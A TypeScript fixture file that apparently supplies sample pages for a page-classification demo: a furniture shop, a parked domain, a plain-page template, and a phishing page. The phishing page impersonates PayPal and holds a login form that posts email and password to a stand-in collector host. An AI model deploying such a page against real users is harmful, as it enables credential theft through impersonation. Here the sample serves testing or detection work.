// The demo's pages: short, but shaped like the real ones.

export const shopPage = `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Walnut &amp; Oak: furniture made to order</title>
<meta name="description" content="Tables, shelves and chairs in walnut and oak, made to order in our own workshop and delivered in four weeks.">
<link rel="canonical" href="https://healthy-shop.lab/">
<script src="/assets/cart.js" defer></script>
<script type="application/ld+json">{"@context":"https://schema.org","@type":"Store","name":"Walnut & Oak"}</script>
</head>
<body>
<h1>Furniture made to order</h1>
<p>Every piece is built in our workshop. Choose wood, size and finish; we deliver in four weeks, and take it back if it does not fit.</p>
<img src="/assets/table.webp" alt="A walnut table for six" width="640" height="480">
<h2>Visit or write</h2>
<p>Write to <a href="mailto:hello@healthy-shop.lab">hello@healthy-shop.lab</a> or call <a href="tel:+4930901820">+49 30 901820</a>.</p>
<p><a href="https://www.instagram.com/walnutandoak">Our work in pictures</a></p>
</body>
</html>`

export const parkedPage = `<!doctype html>
<html><head><title>parked-name.lab is for sale</title></head>
<body><h1>parked-name.lab</h1><p>This domain is for sale. Buy this domain.</p>
<p>Related searches: insurance, loans, hotels</p></body></html>`

export const phishingPage = `<!doctype html>
<html><head><title>PayPal: confirm your account</title></head>
<body>
<h1>Your account is limited</h1>
<p>Confirm your password within 24 hours to keep your account.</p>
<form action="http://collector.lab/drop.php" method="post">
<input type="email" name="login"><input type="password" name="pass"><button>Log in</button>
</form>
</body></html>`

export const plainPage = (title: string) =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title></head><body><h1>${title}</h1></body></html>`
